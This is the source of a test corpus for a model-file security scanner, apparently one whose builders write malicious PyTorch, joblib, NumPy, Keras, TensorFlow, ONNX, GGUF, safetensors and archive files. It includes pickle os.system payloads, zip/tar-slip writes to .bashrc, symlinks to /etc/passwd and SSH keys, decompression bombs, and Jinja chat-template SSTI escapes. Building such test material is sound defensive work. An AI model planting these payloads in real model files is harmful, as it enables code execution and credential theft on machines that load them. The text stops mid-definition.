"""Malicious entries in every container format: PyTorch, joblib, NumPy, archives, Keras, TensorFlow, ONNX,
GGUF / HF templates, safetensors and the filesystem itself.

Files are written with the formats' own libraries (``torch.save``, ``joblib.dump``, ``np.save``, ``h5py``,
``onnx.helper``, ``gguf.GGUFWriter``) or by hand where the attack needs bytes no library writes.
"""

from __future__ import annotations

import bz2
import io
import json
import lzma
import os
import subprocess
import tarfile
import zipfile
import zlib
from pathlib import Path

import numpy as np

from tests.corpus import protobuf as pb
from tests.corpus.pickleasm import Glob, call_program
from tests.corpus.registry import BuildContext, malicious
from tests.corpus.writers import (
    Reduce,
    evil,
    gguf_raw,
    keras2_dense,
    keras2_sequential,
    keras3_dense,
    keras3_layer,
    keras3_sequential,
    lambda_code,
    member_ending,
    patch_zip_crc,
    patch_zip_local_name,
    safetensors_raw,
    tiny_state_dict,
    torch_save,
    write_gguf,
    write_keras_h5,
    write_keras_zip,
    write_tar,
    write_zip,
)

# -- PyTorch ----------------------------------------------------------------------------------------------


def _poisoned_state(ctx: BuildContext) -> dict[str, object]:
    state = dict(tiny_state_dict())
    state["_metadata_hook"] = evil(ctx)
    return state


@malicious(
    "torch_zip_reduce_os_system", "pytorch", "WW-PKL", "torch.save of an object whose __reduce__ is os.system"
)
def _torch_zip(ctx: BuildContext, folder: Path) -> None:
    torch_save(_poisoned_state(ctx), folder / "pytorch_model.bin")


@malicious(
    "torch_zip_subprocess_in_optimizer",
    "pytorch",
    "WW-PKL",
    "torch checkpoint with subprocess.Popen in optimizer state",
)
def _torch_opt(ctx: BuildContext, folder: Path) -> None:
    ckpt = {
        "model": tiny_state_dict(),
        "optimizer": {"state": {0: Reduce(subprocess.Popen, ctx.argv())}},
        "epoch": 2,
    }
    torch_save(ckpt, folder / "checkpoint.pt")


@malicious("torch_zip_bad_crc", "pytorch", "WW-PKL", "torch zip whose data.pkl has a wrong CRC-32")
def _torch_crc(ctx: BuildContext, folder: Path) -> None:
    path = torch_save(_poisoned_state(ctx), folder / "model.pt")
    patch_zip_crc(path, member_ending(path, "/data.pkl"))


@malicious(
    "torch_zip_local_name_mismatch",
    "pytorch",
    "WW-PKL",
    "torch zip: local header name != central directory name",
)
def _torch_name(ctx: BuildContext, folder: Path) -> None:
    path = torch_save(_poisoned_state(ctx), folder / "model.pt")
    member = member_ending(path, "/data.pkl")
    patch_zip_local_name(path, member, member[: -len("data.pkl")] + "safe.pkl")


@malicious(
    "torch_legacy_malicious", "pytorch", "WW-PKL", "legacy (non-zip) torch.save with a malicious object"
)
def _torch_legacy(ctx: BuildContext, folder: Path) -> None:
    torch_save(_poisoned_state(ctx), folder / "model.pt", legacy=True)


@malicious(
    "torch_legacy_exec_tensorless", "pytorch", "WW-PKL", "legacy torch.save of a dict with builtins.exec"
)
def _torch_legacy2(ctx: BuildContext, folder: Path) -> None:
    torch_save({"hook": Reduce(exec, ctx.python())}, folder / "weights.pth", legacy=True)


@malicious(
    "torchscript_like_constants",
    "pytorch",
    "WW-PKL",
    "TorchScript-style archive with a malicious constants.pkl",
)
def _torchscript(ctx: BuildContext, folder: Path) -> None:
    import pickle

    data_pkl = call_program(2, Glob("torch.jit._pickle", "restore_type_tag"), {}, "Dict[str, Tensor]")
    write_zip(
        folder / "model.pt",
        {
            "model/data.pkl": data_pkl,
            "model/constants.pkl": pickle.dumps((evil(ctx),), protocol=2),
            "model/code/__torch__/model.py": b"class Model(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    return x\n",
            "model/version": b"3\n",
            "model/.data/version": b"3\n",
        },
        zipfile.ZIP_STORED,
    )


# -- joblib -----------------------------------------------------------------------------------------------

_JOBLIB_COMPRESSORS = ("zlib", "gzip", "bz2", "lzma", "xz", "lz4")


def _joblib(compress: str | None):
    def build(ctx: BuildContext, folder: Path) -> None:
        import joblib

        obj = {"model": {"coef": np.arange(6.0)}, "preprocess": evil(ctx)}
        joblib.dump(obj, folder / "model.joblib", compress=(compress, 3) if compress else 0)

    return build


malicious("joblib_plain", "joblib", "WW-PKL", "joblib.dump of an object reducing to os.system")(_joblib(None))
for _c in _JOBLIB_COMPRESSORS:
    malicious(f"joblib_{_c}", "joblib", "WW-PKL", f"joblib.dump compressed with {_c}")(_joblib(_c))


# -- NumPy ------------------------------------------------------------------------------------------------


def _object_array(ctx: BuildContext) -> np.ndarray:
    arr = np.empty(2, dtype=object)
    arr[0] = 1.5
    arr[1] = evil(ctx)
    return arr


@malicious("npy_object_array", "numpy", "WW-PKL", ".npy with object dtype whose pickle calls os.system")
def _npy(ctx: BuildContext, folder: Path) -> None:
    np.save(folder / "array.npy", _object_array(ctx), allow_pickle=True)


@malicious(
    "npz_object_array", "numpy", "WW-PKL", ".npz holding a malicious object array next to a numeric one"
)
def _npz(ctx: BuildContext, folder: Path) -> None:
    np.savez(folder / "arrays.npz", weights=np.ones(4), extra=_object_array(ctx))


@malicious("npz_compressed_object_array", "numpy", "WW-PKL", "savez_compressed with a malicious object array")
def _npz_c(ctx: BuildContext, folder: Path) -> None:
    np.savez_compressed(folder / "arrays.npz", extra=_object_array(ctx))


# -- archives ---------------------------------------------------------------------------------------------


def _evil_pickle(ctx: BuildContext) -> bytes:
    return call_program(2, Glob("os", "system"), ctx.shell())


@malicious("zip_with_pickle", "archive", "WW-PKL", "pickle inside a zip")
def _zip_pkl(ctx: BuildContext, folder: Path) -> None:
    write_zip(folder / "bundle.zip", {"README.txt": b"weights\n", "model/model.pkl": _evil_pickle(ctx)})


@malicious("tar_with_pickle", "archive", "WW-PKL", "pickle inside a tar")
def _tar_pkl(ctx: BuildContext, folder: Path) -> None:
    write_tar(folder / "bundle.tar", {"model/model.pkl": _evil_pickle(ctx)})


@malicious("tar_gz_with_pickle", "archive", "WW-PKL", "pickle inside a gzip-compressed tar")
def _tgz_pkl(ctx: BuildContext, folder: Path) -> None:
    write_tar(folder / "bundle.tar.gz", {"model/model.pkl": _evil_pickle(ctx)}, "w:gz")


@malicious("sevenzip_with_pickle", "archive", "WW-PKL", "pickle inside a 7z archive")
def _7z_pkl(ctx: BuildContext, folder: Path) -> None:
    import py7zr

    with py7zr.SevenZipFile(folder / "bundle.7z", "w") as z:
        z.writestr(_evil_pickle(ctx), "model/model.pkl")


@malicious("zip_torch_in_zip", "archive", "WW-PKL", "malicious torch checkpoint stored inside a zip")
def _zip_torch(ctx: BuildContext, folder: Path) -> None:
    inner = torch_save(_poisoned_state(ctx), ctx.dest / ".scratch" / f"{ctx.name}.pt")
    write_zip(folder / "release.zip", {"checkpoints/model.pt": inner.read_bytes()})


@malicious("nemo_tar", "archive", "WW-PKL", ".nemo (tar) with a malicious model_weights.ckpt")
def _nemo(ctx: BuildContext, folder: Path) -> None:
    inner = torch_save(_poisoned_state(ctx), ctx.dest / ".scratch" / f"{ctx.name}.ckpt")
    write_tar(
        folder / "model.nemo",
        {
            "./model_config.yaml": b"target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\n",
            "./model_weights.ckpt": inner.read_bytes(),
        },
    )


@malicious("mar_zip", "archive", "WW-PKL", "TorchServe .mar (zip) with a malicious model.pt")
def _mar(ctx: BuildContext, folder: Path) -> None:
    inner = torch_save(_poisoned_state(ctx), ctx.dest / ".scratch" / f"{ctx.name}.pt")
    manifest = {
        "runtime": "python",
        "model": {"modelName": "m", "serializedFile": "model.pt", "handler": "image_classifier"},
    }
    write_zip(
        folder / "model.mar",
        {"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "model.pt": inner.read_bytes()},
    )


@malicious("zip_slip_dotdot", "archive", "WW-ARC", "zip member name with ../ (zip-slip)")
def _zip_slip(ctx: BuildContext, folder: Path) -> None:
    write_zip(folder / "bundle.zip", {"config.json": b"{}", "../../.bashrc": f"{ctx.shell()}\n".encode()})


@malicious("zip_slip_absolute", "archive", "WW-ARC", "zip member with an absolute name")
def _zip_abs(ctx: BuildContext, folder: Path) -> None:
    write_zip(
        folder / "bundle.zip", {"config.json": b"{}", str(ctx.canary) + ".sh": f"{ctx.shell()}\n".encode()}
    )


@malicious("tar_slip_dotdot", "archive", "WW-ARC", "tar member name with ../")
def _tar_slip(ctx: BuildContext, folder: Path) -> None:
    write_tar(
        folder / "bundle.tar", {"model/config.json": b"{}", "../../../.profile": f"{ctx.shell()}\n".encode()}
    )


@malicious("tar_slip_absolute", "archive", "WW-ARC", "tar member with an absolute name")
def _tar_abs(ctx: BuildContext, folder: Path) -> None:
    write_tar(folder / "bundle.tar", {"model/config.json": b"{}", str(ctx.canary) + ".sh": b"#!/bin/sh\n"})


def _tar_link(kind: bytes, target: str):
    def build(ctx: BuildContext, folder: Path) -> None:
        with tarfile.open(folder / "bundle.tar", "w") as tf:
            data = b"{}"
            info = tarfile.TarInfo("model/config.json")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
            link = tarfile.TarInfo("model/weights.bin")
            link.type = kind
            link.linkname = target
            tf.addfile(link)

    return build


malicious("tar_symlink_member", "archive", "WW-ARC", "tar symlink member pointing at /etc/passwd")(
    _tar_link(tarfile.SYMTYPE, "/etc/passwd")
)
malicious("tar_hardlink_member", "archive", "WW-ARC", "tar hardlink member pointing outside the archive")(
    _tar_link(tarfile.LNKTYPE, "../../../etc/shadow")
)
malicious(
    "tar_symlink_relative_escape", "archive", "WW-ARC", "tar symlink member ../../ escaping the folder"
)(_tar_link(tarfile.SYMTYPE, "../../../../home/user/.ssh/authorized_keys"))


@malicious(
    "zip_bomb_bzip2",
    "archive",
    "WW-ARC",
    "zip member expanding ~5e5x (bzip2 of 64 MiB of zeros)",
)
def _zip_bomb(ctx: BuildContext, folder: Path) -> None:
    comp = bz2.BZ2Compressor(9)
    chunk = b"\x00" * (16 << 20)
    blob = b"".join(comp.compress(chunk) for _ in range(4)) + comp.flush()  # 64 MiB of zeros -> ~100 bytes
    crc = 0
    for _ in range(4):
        crc = zlib.crc32(chunk, crc)
    _write_raw_zip_member(folder / "weights.zip", "weights.bin", blob, 4 * len(chunk), crc, method=12)


def _write_raw_zip_member(path: Path, name: str, payload: bytes, usize: int, crc: int, method: int) -> None:
    """A one-member zip written by hand, so a 1 GiB member needs no 1 GiB buffer."""
    import struct

    fname = name.encode()
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 46, 0, method, 0, 0x5821, crc, len(payload), usize, len(fname), 0
    )
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        46,
        46,
        0,
        method,
        0,
        0x5821,
        crc,
        len(payload),
        usize,
        len(fname),
        0,
        0,
        0,
        0,
        0,
        0,
    )
    body = local + fname + payload
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central) + len(fname), len(body), 0)
    path.write_bytes(body + central + fname + end)


@malicious("xz_stream_bomb", "archive", "WW-ARC", "single xz stream expanding ~1e4x")
def _xz_bomb(ctx: BuildContext, folder: Path) -> None:
    comp = lzma.LZMACompressor(preset=0)
    chunk = b"\x00" * (16 << 20)
    blob = b"".join(comp.compress(chunk) for _ in range(4)) + comp.flush()  # 64 MiB of zeros -> ~10 KB
    (folder / "model.bin.xz").write_bytes(blob)


@malicious(
    "nested_archives_past_depth",
    "archive",
    "WW-ARC",
    "pickle 9 zips deep, past the archive depth limit",
    also_accept=("WW-GEN", "WW-PKL"),
)
def _nested(ctx: BuildContext, folder: Path) -> None:
    data = _evil_pickle(ctx)
    name = "model.pkl"
    for level in range(9):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr(name, data)
        data, name = buf.getvalue(), f"level{level}.zip"
    (folder / "nested.zip").write_bytes(data)


# -- Keras ------------------------------------------------------------------------------------------------


@malicious("keras_h5_lambda", "keras", "WW-KERAS", "Keras 2 H5 model_config with a marshalled Lambda")
def _h5_lambda(ctx: BuildContext, folder: Path) -> None:
    lam = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": [lambda_code(ctx), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }
    cfg = keras2_sequential([keras2_dense(), lam])
    write_keras_h5(
        folder / "model.h5",
        cfg,
        {"dense": {"kernel": np.ones((4, 2), np.float32), "bias": np.zeros(2, np.float32)}},
    )


@malicious(
    "keras_h5_lambda_functional",
    "keras",
    "WW-KERAS",
    "Keras 2 functional model, Lambda inside a nested model",
)
def _h5_lambda_nested(ctx: BuildContext, folder: Path) -> None:
    lam = {
        "class_name": "Lambda",
        "config": {"name": "hidden", "function": [lambda_code(ctx), None, None], "function_type": "lambda"},
    }
    inner = {"class_name": "Sequential", "config": {"name": "inner", "layers": [keras2_dense("d1"), lam]}}
    cfg = {
        "class_name": "Functional",
        "config": {
            "name": "model",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "in"},
                    "name": "in",
                    "inbound_nodes": [],
                },
                {**inner, "name": "inner", "inbound_nodes": [[["in", 0, 0, {}]]]},
            ],
            "input_layers": [["in", 0, 0]],
            "output_layers": [["inner", 0, 0]],
        },
    }
    write_keras_h5(folder / "model.h5", cfg, {"inner": {"kernel": np.ones((4, 2), np.float32)}})


def _keras3_lambda(ctx: BuildContext) -> dict[str, object]:
    return keras3_layer(
        "Lambda",
        {
            "name": "lambda",
            "trainable": True,
            "function": {"class_name": "__lambda__", "config": {"value": [lambda_code(ctx), None, None]}},
            "arguments": {},
        },
    )


@malicious("keras_zip_lambda", "keras", "WW-KERAS", "Keras 3 .keras with a __lambda__ function")
def _keras_lambda(ctx: BuildContext, folder: Path) -> None:
    write_keras_zip(folder / "model.keras", keras3_sequential([keras3_dense(), _keras3_lambda(ctx)]))


@malicious(
    "keras_zip_module_os_system",
    "keras",
    "WW-KERAS",
    "config layer with module 'os', class_name 'system' (CVE-2025-1550)",
)
def _keras_os(ctx: BuildContext, folder: Path) -> None:
    layer = {
        "module": "os",
        "class_name": "system",
        "config": {"command": ctx.shell()},
        "registered_name": "system",
    }
    write_keras_zip(folder / "model.keras", keras3_sequential([keras3_dense(), layer]))


@malicious(
    "keras_zip_activation_exec", "keras", "WW-KERAS", "Dense activation serialized as function builtins.exec"
)
def _keras_act(ctx: BuildContext, folder: Path) -> None:
    act = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    write_keras_zip(folder / "model.keras", keras3_sequential([keras3_dense(activation=act)]))


@malicious(
    "keras_zip_initializer_subprocess", "keras", "WW-KERAS", "initializer config naming subprocess.Popen"
)
def _keras_init(ctx: BuildContext, folder: Path) -> None:
    dense = keras3_dense()
    dense["config"]["kernel_initializer"] = {
        "module": "subprocess",
        "class_name": "Popen",
        "config": {"args": ctx.argv()},
        "registered_name": None,
    }
    write_keras_zip(folder / "model.keras", keras3_sequential([dense]))


# Red team round 20, class B: Keras builds the model from config.json whatever its siblings are (no metadata.json,
# .npz weights, none, a torch data.pkl beside it) and from an unzipped folder. Their firing under keras is proven
# by tests/test_scan_round20_keras.py (tests/adversarial/generate.py round20_keras_cases) when keras imports.


def _keras_r20_config(ctx: BuildContext) -> bytes:
    return json.dumps(keras3_sequential([keras3_dense(), _keras3_lambda(ctx)])).encode()


def _empty_npz() -> bytes:
    """A small .npz of plain floats (Keras 3 accepts model.weights.npz; the Lambda runs before weights load)."""
    buf = io.BytesIO()
    np.savez(buf, **{"0": np.zeros(2, np.float32)})
    return buf.getvalue()


@malicious("keras_zip_no_metadata_npz", "keras", "WW-KERAS", ".keras with config.json and model.weights.npz only")
def _keras_nometa(ctx: BuildContext, folder: Path) -> None:
    write_zip(folder / "model.keras", {"config.json": _keras_r20_config(ctx), "model.weights.npz": _empty_npz()})


@malicious("keras_zip_config_only", "keras", "WW-KERAS", ".keras holding config.json alone (the Lambda runs first)")
def _keras_bare(ctx: BuildContext, folder: Path) -> None:
    write_zip(folder / "model.keras", {"config.json": _keras_r20_config(ctx)})


@malicious("keras_zip_with_torch_data_pkl", "keras", "WW-KERAS", ".keras plus data.pkl and version (a torch zip too)")
def _keras_withpkl(ctx: BuildContext, folder: Path) -> None:
    meta = json.dumps({"keras_version": "3.15.1", "date_saved": "2026-12-07@05:45:00"}).encode()
    write_zip(folder / "model.keras", {"metadata.json": meta, "config.json": _keras_r20_config(ctx),
                                       "model.weights.npz": _empty_npz(), "data.pkl": b"\x80\x02}q\x00.",
                                       "version": b"3\n"})


@malicious("keras_folder_config_json", "keras", "WW-KERAS", "unzipped Keras folder: a loose config.json (+ weights)")
def _keras_folder(ctx: BuildContext, folder: Path) -> None:
    (folder / "config.json").write_bytes(_keras_r20_config(ctx))
    (folder / "model.weights.npz").write_bytes(_empty_npz())


# -- TensorFlow SavedModel ---------------------------------------------------------------------------------


def _savedmodel(
    folder: Path, nodes: list[bytes], functions: list[bytes] = (), ops: tuple[str, ...] = ()
) -> None:  # type: ignore[assignment]
    (folder / "variables").mkdir(parents=True, exist_ok=True)
    (folder / "saved_model.pb").write_bytes(pb.saved_model(pb.graph(nodes, list(functions)), ops))


_BASE_NODES = [
    pb.node("x", "Placeholder", attrs={"dtype": pb.attr_value_type(1)}),
    pb.node("w", "VarHandleOp", attrs={"dtype": pb.attr_value_type(1), "shared_name": pb.attr_value_s("w")}),
    pb.node("w/read", "ReadVariableOp", ("w",)),
    pb.node("y", "MatMul", ("x", "w/read")),
]


@malicious("tf_readfile_writefile", "tf", "WW-TF", "SavedModel graph with ReadFile and WriteFile ops")
def _tf_rw(ctx: BuildContext, folder: Path) -> None:
    nodes = [
        *_BASE_NODES,
        pb.node("path", "Const", attrs={"value": pb.attr_value_s("/etc/passwd")}),
        pb.node("read", "ReadFile", ("path",)),
        pb.node("out", "Const", attrs={"value": pb.attr_value_s(str(ctx.canary))}),
        pb.node("write", "WriteFile", ("out", "read")),
    ]
    _savedmodel(
        folder,
        nodes,
        ops=("Placeholder", "VarHandleOp", "ReadVariableOp", "MatMul", "Const", "ReadFile", "WriteFile"),
    )


@malicious("tf_pyfunc", "tf", "WW-TF", "SavedModel graph with a PyFunc op")
def _tf_pyfunc(ctx: BuildContext, folder: Path) -> None:
    nodes = [*_BASE_NODES, pb.node("hook", "PyFunc", ("y",), {"token": pb.attr_value_s("pyfunc_0")})]
    _savedmodel(folder, nodes, ops=("Placeholder", "VarHandleOp", "ReadVariableOp", "MatMul", "PyFunc"))


@malicious("tf_unknown_op", "tf", "WW-TF", "SavedModel graph with an op outside the allowlist")
def _tf_unknown(ctx: BuildContext, folder: Path) -> None:
    nodes = [*_BASE_NODES, pb.node("evil", "ExecuteShellCommand", ("y",))]
    _savedmodel(folder, nodes)


@malicious("tf_function_writefile", "tf", "WW-TF", "WriteFile hidden in a function of the graph's library")
def _tf_func(ctx: BuildContext, folder: Path) -> None:
    fn = pb.function(
        "__inference_serving_default_42",
        [
            pb.node("c", "Const", attrs={"value": pb.attr_value_s(str(ctx.canary))}),
            pb.node("w", "WriteFile", ("c", "c")),
        ],
    )
    nodes = [*_BASE_NODES, pb.node("call", "StatefulPartitionedCall", ("x",))]
    _savedmodel(folder, nodes, [fn])


@malicious("tf_matchingfiles_deletefile", "tf", "WW-TF", "SavedModel with MatchingFiles and DeleteFile ops")
def _tf_delete(ctx: BuildContext, folder: Path) -> None:
    nodes = [
        *_BASE_NODES,
        pb.node("pattern", "Const", attrs={"value": pb.attr_value_s(str(ctx.canary_dir) + "/*")}),
        pb.node("files", "MatchingFiles", ("pattern",)),
        pb.node("rm", "DeleteFile", ("files",)),
    ]
    _savedmodel(folder, nodes)


# -- ONNX -------------------------------------------------------------------------------------------------


def _onnx_external(folder: Path, location: str) -> None:
    from onnx import TensorProto, helper

    weight = TensorProto(
        name="W", data_type=TensorProto.FLOAT, dims=[4, 4], data_location=TensorProto.EXTERNAL
    )
    for key, value in {"location": location, "offset": "0", "length": "64"}.items():
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["Y"])],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])],
        initializer=[weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], producer_name="corpus")
    (folder / "model.onnx").write_bytes(model.SerializeToString())


@malicious("onnx_external_dotdot", "onnx", "WW-ONNX", "external data location ../../etc/passwd")
def _onnx_dotdot(ctx: BuildContext, folder: Path) -> None:
    _onnx_external(folder, "../../etc/passwd")


@malicious("onnx_external_absolute", "onnx", "WW-ONNX", "external data with an absolute location")
def _onnx_abs(ctx: BuildContext, folder: Path) -> None:
    _onnx_external(folder, "/etc/passwd")


@malicious("onnx_custom_domain", "onnx", "WW-ONNX", "node in custom op domain evil.domain")
def _onnx_custom(ctx: BuildContext, folder: Path) -> None:
    from onnx import TensorProto, helper, numpy_helper

    graph = helper.make_graph(
        [
            helper.make_node("MatMul", ["X", "W"], ["H"]),
            helper.make_node("Backdoor", ["H"], ["Y"], domain="evil.domain", command=ctx.shell()),
        ],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])],
        initializer=[numpy_helper.from_array(np.eye(4, dtype=np.float32), "W")],
    )
    model = helper.make_model(
        graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("evil.domain", 1)]
    )
    (folder / "model.onnx").write_bytes(model.SerializeToString())


# -- GGUF and Hugging Face chat templates --------------------------------------------------------------------

_CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


def _ssti(kind: str, ctx: BuildContext) -> str:
    cmd = ctx.shell()
    payload = {
        "mro_subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "lipsum_globals": "{{ lipsum.__globals__['os'].popen('" + cmd + "').read() }}",
        "cycler_popen": "{{ cycler.__init__.__globals__.os.popen('" + cmd + "').read() }}",
        "attr_concat": "{% set c = ()|attr('__cla' ~ 'ss__') %}{% set b = c|attr('__ba' ~ 'se__') %}"
        "{{ (b|attr('__subcla' ~ 'sses__'))() }}",
        "joiner_globals": "{{ joiner.__init__.__globals__['__builtins__']['__import__']('os').system('"
        + cmd
        + "') }}",
        "namespace_globals": "{% set ns = namespace() %}{{ ns.__init__.__globals__.__builtins__.eval(\"__import__('os').system('"
        + cmd
        + "')\") }}",
    }[kind]
    return "{%- if messages[0]['role'] == 'system' %}" + payload + "{%- endif %}" + _CHATML


for _kind in ("mro_subclasses", "lipsum_globals", "cycler_popen", "attr_concat"):

    def _gguf_ssti(kind: str = _kind):
        def build(ctx: BuildContext, folder: Path) -> None:
            write_gguf(folder / "model.gguf", _ssti(kind, ctx))

        return build

    malicious(f"gguf_ssti_{_kind}", "gguf", "WW-TPL", f"GGUF tokenizer.chat_template SSTI: {_kind}")(
        _gguf_ssti()
    )


@malicious(
    "gguf_ssti_secondary_template",
    "gguf",
    "WW-TPL",
    "SSTI in tokenizer.chat_template.tool_use (named template)",
)
def _gguf_named(ctx: BuildContext, folder: Path) -> None:
    write_gguf(
        folder / "model.gguf",
        _CHATML,
        extra={"tokenizer.chat_template.tool_use": _ssti("joiner_globals", ctx)},
    )


@malicious(
    "gguf_tensor_out_of_bounds", "gguf", "WW-GGUF", "GGUF tensor whose data offset lies past the end of file"
)
def _gguf_oob(ctx: BuildContext, folder: Path) -> None:
    data = np.ones(8, dtype=np.float32).tobytes()
    (folder / "model.gguf").write_bytes(gguf_raw([("a", (8,), 0), ("b", (8,), 1 << 30)], data))


def _tokenizer_config(template: object) -> bytes:
    cfg = {
        "add_bos_token": False,
        "bos_token": "<|im_start|>",
        "eos_token": "<|im_end|>",
        "model_max_length": 2048,
        "tokenizer_class": "GPT2Tokenizer",
        "chat_template": template,
    }
    return json.dumps(cfg, indent=2).encode()


@malicious(
    "hf_tokenizer_config_ssti",
    "hf",
    "WW-TPL",
    "tokenizer_config.json chat_template with cycler.__init__.__globals__",
)
def _hf_ssti(ctx: BuildContext, folder: Path) -> None:
    (folder / "tokenizer_config.json").write_bytes(_tokenizer_config(_ssti("cycler_popen", ctx)))
    (folder / "config.json").write_text(json.dumps({"model_type": "llama", "hidden_size": 8}))


@malicious(
    "hf_tokenizer_config_ssti_list", "hf", "WW-TPL", "chat_template list form; SSTI in the 'tool_use' entry"
)
def _hf_ssti_list(ctx: BuildContext, folder: Path) -> None:
    templates = [
        {"name": "default", "template": _CHATML},
        {"name": "tool_use", "template": _ssti("attr_concat", ctx)},
    ]
    (folder / "tokenizer_config.json").write_bytes(_tokenizer_config(templates))


@malicious("hf_chat_template_jinja_ssti", "hf", "WW-TPL", "chat_template.jinja file with lipsum.__globals__")
def _hf_jinja(ctx: BuildContext, folder: Path) -> None:
    (folder / "chat_template.jinja").write_text(_ssti("lipsum_globals", ctx))
    (folder / "tokenizer_config.json").write_text(
        json.dumps({"model_max_length": 512, "tokenizer_class": "GPT2Tokenizer"})
    )


@malicious("hf_tokenizer_config_namespace_escape", "hf", "WW-TPL", "namespace().__init__.__globals__ escape")
def _hf_ns(ctx: BuildContext, folder: Path) -> None:
    (folder / "tokenizer_config.json").write_bytes(_tokenizer_config(_ssti("namespace_globals", ctx)))


# -- safetensors ------------------------------------------------------------------------------------------

_F32x4 = {"dtype": "F32", "shape": [4]}


def _st(
    folder: Path, header: dict[str, object] | bytes, data: bytes, declared_len: int | None = None
) -> None:
    (folder / "model.safetensors").write_bytes(safetensors_raw(header, data, declared_len=declared_len))


@malicious("st_overlapping_offsets", "safetensors", "WW-ST", "two tensors whose byte ranges overlap")
def _st_overlap(ctx: BuildContext, folder: Path) -> None:
    _st(
        folder,
        {"a": {**_F32x4, "data_offsets": [0, 16]}, "b": {**_F32x4, "data_offsets": [8, 24]}},
        bytes(24),
    )


@malicious("st_out_of_bounds", "safetensors", "WW-ST", "tensor data_offsets past the end of the file")
def _st_oob(ctx: BuildContext, folder: Path) -> None:
    _st(folder, {"a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, bytes(16))


@malicious(
    "st_header_length_exceeds_file",
    "safetensors",
    "WW-ST",
    "declared header length (10 GB) larger than the file",
)
def _st_hlen(ctx: BuildContext, folder: Path) -> None:
    _st(folder, {"a": {**_F32x4, "data_offsets": [0, 16]}}, bytes(16), declared_len=10 * 1024**3)


@malicious("st_size_mismatch", "safetensors", "WW-ST", "declared bytes != shape x dtype size")
def _st_size(ctx: BuildContext, folder: Path) -> None:
    _st(folder, {"a": {**_F32x4, "data_offsets": [0, 12]}}, bytes(12))


@malicious("st_unknown_dtype", "safetensors", "WW-ST", "tensor with an unknown dtype")
def _st_dtype(ctx: BuildContext, folder: Path) -> None:
    _st(folder, {"a": {"dtype": "EVIL64", "shape": [2], "data_offsets": [0, 16]}}, bytes(16))


@malicious("st_invalid_json", "safetensors", "WW-ST", "header is not valid JSON")
def _st_json(ctx: BuildContext, folder: Path) -> None:
    _st(folder, b'{"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]', bytes(16))


@malicious(
    "st_gap_hidden_bytes", "safetensors", "WW-ST", "non-contiguous offsets leaving a gap that hides a pickle"
)
def _st_gap(ctx: BuildContext, folder: Path) -> None:
    hidden = call_program(2, Glob("os", "system"), ctx.shell())
    gap = len(hidden) + (-len(hidden) % 4)
    data = bytes(16) + hidden.ljust(gap, b"\x00") + bytes(16)
    _st(
        folder,
        {"a": {**_F32x4, "data_offsets": [0, 16]}, "b": {**_F32x4, "data_offsets": [16 + gap, 32 + gap]}},
        data,
    )


# -- filesystem -------------------------------------------------------------------------------------------


def _st_benign(folder: Path) -> None:
    from safetensors.numpy import save_file

    save_file({"w": np.ones((2, 2), dtype=np.float32)}, str(folder / "model.safetensors"))


@malicious("fs_symlink_outside", "fs", "WW-FS", "relative symlink resolving outside the model folder")
def _fs_rel(ctx: BuildContext, folder: Path) -> None:
    _st_benign(folder)
    os.symlink("../../../../../../etc/passwd", folder / "tokenizer.json")


@malicious("fs_symlink_absolute", "fs", "WW-FS", "absolute symlink inside the model folder")
def _fs_abs(ctx: BuildContext, folder: Path) -> None:
    _st_benign(folder)
    os.symlink("/etc/passwd", folder / "vocab.txt")


# -- more evasions ------------------------------------------------------------------------------------------


@malicious(
    "torch_zip_duplicate_data_pkl",
    "pytorch",
    "WW-PKL",
    "torch zip with two archive/data.pkl records: benign first, malicious last",
    also_accept=("WW-ARC",),
)
def _torch_dup(ctx: BuildContext, folder: Path) -> None:
    import pickle
    import warnings

    path = torch_save(tiny_state_dict(), folder / "model.pt")
    member = member_ending(path, "/data.pkl")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name, which is the point
        with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as zf:
            zf.writestr(member, pickle.dumps({"x": evil(ctx)}, protocol=2))


@malicious("zip_gz_pickle_member", "archive", "WW-PKL", "gzip-compressed pickle stored as a zip member")
def _zip_gz(ctx: BuildContext, folder: Path) -> None:
    import gzip

    write_zip(folder / "bundle.zip", {"model.pkl.gz": gzip.compress(_evil_pickle(ctx))}, zipfile.ZIP_STORED)


@malicious("zip_slip_mid_path", "archive", "WW-ARC", "zip member 'model/../../../x' (.. in the middle)")
def _zip_mid(ctx: BuildContext, folder: Path) -> None:
    write_zip(folder / "bundle.zip", {"model/config.json": b"{}", "model/../../../evil.sh": b"#!/bin/sh\n"})


@malicious(
